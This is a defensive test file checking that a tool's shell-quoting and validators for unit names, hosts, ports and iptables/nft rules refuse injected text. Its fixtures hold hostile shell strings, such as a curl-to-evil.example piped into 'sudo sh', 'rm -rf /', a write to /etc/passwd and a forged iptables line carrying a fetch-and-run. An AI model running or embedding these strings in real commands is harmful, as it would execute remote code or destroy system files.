/**
 * The grammar that decides which host and server text may appear in a command
 * a human pastes (issue #16, item 5). Quoting is proven by a real /bin/sh: the
 * words we print, evaluated by the shell, come back as exactly the tokens we
 * meant, and nothing else runs.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { iptablesDeleteCommand, tokenizeRuleLine, validatedRuleWords } from '../../src/engine/shared/iptables-rule.js';
import {
  isPlausibleRuleText,
  isSafeChainName,
  isSafeContainerName,
  isSafeHost,
  isSafeImageRef,
  isSafeK8sName,
  isSafePort,
  isSafeRedisName,
  isSafeUnitName,
  isSafeUserName,
  quoteArg,
  quotePath,
  quoteValue,
  safeNftTable,
} from '../../src/engine/shared/shell-words.js';

/** What /bin/sh makes of `words`: one line per argument (a command substitution or a `;` would add output or fail). */
function shellArgs(words: string): string[] {
  const out = execFileSync('/bin/sh', ['-c', `set -f; set -- ${words}; for a in "$@"; do printf '[%s]\\n' "$a"; done`], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
  return out.split('\n').filter(Boolean).map((l) => l.slice(1, -1));
}

const INJECTIONS = [
  '; curl -s http://evil.example/p | sudo sh #',
  '$(curl -s http://evil.example/p)',
  '`id`',
  'a\nsudo sh',
  'a\rb',
  "it's",
  'x && rm -rf /',
  'x > /etc/passwd',
  'redis\u202e',
  'rеdis', // Cyrillic е
];

describe('quoteValue / quoteArg', () => {
  it('plain words stay as they are; others become one single-quoted word the shell reads back exactly', () => {
    expect(quoteValue('redis-server@6380.service')).toBe('redis-server@6380.service');
    expect(quoteValue('/var/lib/redis')).toBe('/var/lib/redis');
    for (const word of ['my dir', "it's", '; curl -s http://evil.example/p | sudo sh #', '$(id)', '`id`', '*', '~root', '{a,b}', '!x', 'a"b', '\\']) {
      const q = quoteValue(word)!;
      expect(q, word).toMatch(/^'.*'$/);
      expect(shellArgs(q), word).toEqual([word]);
    }
  });

  it('refuses what no quoting makes safe to paste: control characters, non-ASCII, overlong, empty', () => {
    for (const word of ['a\nb', 'a\rb', 'a\tb', 'a\0b', 'redis\u202e', 'rеdis', '', 'x'.repeat(257)]) expect(quoteValue(word), JSON.stringify(word)).toBeUndefined();
    expect(quoteValue('x'.repeat(256))).toBe('x'.repeat(256));
  });

  it('quoteArg also refuses a leading "-" (quotes do not stop option parsing)', () => {
    expect(quoteArg('-rf')).toBeUndefined();
    expect(quoteArg('--reference=/etc/shadow')).toBeUndefined();
    expect(quoteArg('redis')).toBe('redis');
    expect(quoteValue('-rf')).toBe('-rf');
  });

  it('quotePath: plain absolute paths as is, other printable absolute paths quoted, relative or control characters refused', () => {
    expect(quotePath('/var/lib/redis')).toBe('/var/lib/redis');
    expect(quotePath('/srv/my redis/data')).toBe("'/srv/my redis/data'");
    expect(shellArgs(quotePath('/srv/$(id);x')!)).toEqual(['/srv/$(id);x']);
    expect(quotePath('var/lib/redis')).toBeUndefined();
    expect(quotePath('-/x')).toBeUndefined();
    expect(quotePath('/a\n/b')).toBeUndefined();
  });
});

describe('field grammars', () => {
  it('systemd unit names: real ones pass, shell text, escapes, leading "-", two "@", non-ASCII and overlong do not', () => {
    for (const u of ['redis-server.service', 'redis-server@6380.service', 'redis@.service', 'redis.service', 'redis-sentinel', 'redis_6379.service', 'redis-stack-server.service', 'snap.redis.server.service']) expect(isSafeUnitName(u), u).toBe(true);
    for (const u of [...INJECTIONS, 'redis\\x2dserver.service', '-redis.service', '.service', 'a@b@c.service', 'redis server.service', `${'r'.repeat(250)}.service`]) expect(isSafeUnitName(u), JSON.stringify(u)).toBe(false);
  });

  it('container names and ids, image references', () => {
    for (const c of ['redis', 'my_redis.1', '/compose-redis-1', 'a'.repeat(64), '0123456789ab']) expect(isSafeContainerName(c), c).toBe(true);
    for (const c of [...INJECTIONS, '-redis', 'r', 'a b', '_redis', 'a'.repeat(129), 'redis,other']) expect(isSafeContainerName(c), JSON.stringify(c)).toBe(false);
    for (const i of ['redis', 'redis:7.2-alpine', 'docker.io/library/redis:7', 'ghcr.io/acme/redis@sha256:0123abcd', 'localhost:5000/redis']) expect(isSafeImageRef(i), i).toBe(true);
    for (const i of [...INJECTIONS, '-redis', 'redis 7']) expect(isSafeImageRef(i), JSON.stringify(i)).toBe(false);
  });

  it('Kubernetes names, users, chains, ports, hosts, Redis names', () => {
    expect(['default', 'redis', 'redis-master-0', 'a'.repeat(63)].every(isSafeK8sName)).toBe(true);
    expect([...INJECTIONS, 'Redis', '-redis', 'redis-', 'a'.repeat(64), 'a.b'].some(isSafeK8sName)).toBe(false);
    expect(['redis', 'doctor', '_svc', 'svc.redis'].every(isSafeUserName)).toBe(true);
    expect([...INJECTIONS, '-root', 'a b', 'x'.repeat(33), 'a$'].some(isSafeUserName)).toBe(false);
    expect(['INPUT', 'DOCKER-USER', 'ufw-user-input', 'f2b-sshd', 'KUBE-FIREWALL', 'LIBVIRT_INP', 'cali-INPUT'].every(isSafeChainName)).toBe(true);
    expect([...INJECTIONS, '-X', '!INPUT', 'a'.repeat(29), 'IN PUT'].some(isSafeChainName)).toBe(false);
    expect([1, 6379, 65535, '6379'].every(isSafePort)).toBe(true);
    expect([0, 65536, -1, 1.5, '6379;id', '', '06379x', NaN].some(isSafePort)).toBe(false);
    expect(['10.0.0.5', '::1', 'fe80::1%eth0', 'redis.example.com', 'redis-0.redis.svc.cluster.local', 'localhost'].every(isSafeHost)).toBe(true);
    expect([...INJECTIONS, '-oProxyCommand=sh', 'a..b', 'host name', 'a'.repeat(254)].some(isSafeHost)).toBe(false);
    expect(['mymaster', 'cache-1', 'shard_2.prod'].every(isSafeRedisName)).toBe(true);
    expect([...INJECTIONS, "my'master", 'a b', '-m', 'x'.repeat(129)].some(isSafeRedisName)).toBe(false);
  });

  it('nft tables as the ruleset heads them', () => {
    expect(safeNftTable('table inet filter')).toBe('inet filter');
    expect(safeNftTable('ip nat')).toBe('ip nat');
    for (const t of ['table inet filter; curl x | sh', 'table evil filter', 'table inet $(id)', 'table inet -f', `table inet ${'f'.repeat(65)}`]) expect(safeNftTable(t), t).toBeUndefined();
  });

  it('firewall rule text (nft, ufw, firewalld) that could be real passes; shell syntax, control and non-ASCII characters do not', () => {
    for (const line of [
      'tcp dport 6379 reject with tcp reset',
      'ip saddr { 10.0.0.0/8, 192.168.0.0/16 } tcp dport 6379 drop',
      'tcp dport 6379 counter packets 0 bytes 0 drop comment "no redis; ever | never"',
      '6379/tcp  DENY IN  Anywhere',
      '6379/tcp (v6)  REJECT IN  Anywhere (v6)',
      'rule family="ipv4" source address="10.0.0.0/8" port port="6379" protocol="tcp" reject',
      'zone public target: DROP',
      'meta l4proto tcp th dport != 22 th dport > 1023 drop',
    ]) expect(isPlausibleRuleText(line), line).toBe(true);
    for (const line of [...INJECTIONS.filter((i) => i !== "it's" && !i.includes('>')), 'tcp dport 6379 drop comment "open', 'x'.repeat(1025), 'drop \\; id']) expect(isPlausibleRuleText(line), JSON.stringify(line)).toBe(false);
  });
});

describe('iptables rule re-emitter', () => {
  const REAL = [
    '-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with icmp-port-unreachable',
    '-A INPUT -p tcp -m tcp --dport 6379 -j DROP',
    '-A INPUT -s 10.0.0.0/8 -p tcp -m multiport --dports 7000:7005,6390 -j DROP',
    '-A INPUT ! -i lo -p tcp -m tcp --dport 6379 -m conntrack --ctstate NEW,INVALID -j DROP',
    '-A INPUT -p tcp -m tcp --tcp-flags FIN,SYN,RST,ACK SYN --dport 6379 -j REJECT --reject-with tcp-reset',
    '-A INPUT -m set --match-set blocklist src -j DROP',
    '-A f2b-sshd -s 203.0.113.7/32 -j REJECT --reject-with icmp-port-unreachable',
    '-A INPUT -s 2001:db8::/32 -p tcp -m tcp --dport 6379 -j DROP',
    '-A DOCKER-USER -i eth0 -p tcp -m tcp --dport 6379 -j DROP',
    '-A ufw-user-input -p tcp -m tcp --dport 6379 -j DROP',
    '-A INPUT -s 10.1.0.0/255.255.0.0 -d 10.0.0.5/32 -p tcp -m tcp --dport 6379 -m addrtype --dst-type LOCAL -j DROP',
    '-A INPUT -p tcp -m tcp --dport 6379 -m limit --limit 5/min --limit-burst 10 -j LOG --log-prefix "redis drop: " --log-level 4',
    '-A INPUT -p icmp -m icmp --icmp-type 8 -j ACCEPT',
    '-A INPUT -j ufw-before-input',
  ];

  it('accepts real iptables -S lines and re-emits them as -D with the same words', () => {
    for (const line of REAL) {
      const cmd = iptablesDeleteCommand('iptables', line);
      expect(cmd, line).toBeDefined();
      expect(shellArgs(cmd!), line).toEqual(['sudo', 'iptables', '-D', ...tokenizeRuleLine(line)!.slice(1)]);
    }
    expect(iptablesDeleteCommand('ip6tables', REAL[7]!)).toBe('sudo ip6tables -D INPUT -s 2001:db8::/32 -p tcp -m tcp --dport 6379 -j DROP');
  });

  it('a comment is free text: single-quoted, read back by the shell as one word', () => {
    const line = '-A INPUT -p tcp -m tcp --dport 6379 -m comment --comment "block redis; it\'s $(temporary) `x` | y" -j DROP';
    const cmd = iptablesDeleteCommand('iptables', line)!;
    expect(shellArgs(cmd)).toEqual(['sudo', 'iptables', '-D', 'INPUT', '-p', 'tcp', '-m', 'tcp', '--dport', '6379', '-m', 'comment', '--comment', "block redis; it's $(temporary) `x` | y", '-j', 'DROP']);
    const escaped = iptablesDeleteCommand('iptables', '-A INPUT -m comment --comment "say \\"hi\\" \\\\ there" -j DROP')!;
    expect(shellArgs(escaped)).toEqual(['sudo', 'iptables', '-D', 'INPUT', '-m', 'comment', '--comment', 'say "hi" \\ there', '-j', 'DROP']);
  });

  it('refuses the forged line of issue #16 and every other line outside the grammar', () => {
    for (const line of [
      '-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset ; curl -s http://evil.example/p | sudo sh #',
      '-A INPUT -p tcp -m tcp --dport 6379 -j DROP;id',
      '-A INPUT -p tcp -m tcp --dport $(id) -j DROP',
      '-A INPUT -p tcp -m tcp --dport 6379 -j `id`',
      '-A INPUT -p tcp -m tcp --dport 6379 -j DROP\ncurl x',
      "-A INPUT -p tcp -m tcp --dport 6379 -j 'DROP'",
      '-A INPUT -s 10.0.0.0/8;id -j DROP',
      '-A INPUT -s evil.example -j DROP',
      '-A -X -j DROP',
      '-A !INPUT -j DROP',
      '-A INPUT -i еth0 -j DROP', // Cyrillic е
      '-A INPUT -p tcp --dport 70000 -j DROP',
      '-A INPUT -p tcp --frobnicate 1 -j DROP',
      '-A INPUT -p tcp -j DR"OP"',
      '-A INPUT -m comment --comment "unterminated -j DROP',
      '-A INPUT -p tcp --dport 6379 -j',
      '-A INPUT -p tcp --dport 6379 -j DROP extra',
      '-A INPUT -m conntrack --ctstate NEW,$(id) -j DROP',
      `-A INPUT ${'-p tcp '.repeat(300)}-j DROP`,
      '-P INPUT DROP',
      '-D INPUT -j DROP',
      '-A INPUT',
    ]) {
      expect(iptablesDeleteCommand('iptables', line), JSON.stringify(line)).toBeUndefined();
      expect(validatedRuleWords(line), JSON.stringify(line)).toBeUndefined();
    }
  });
});
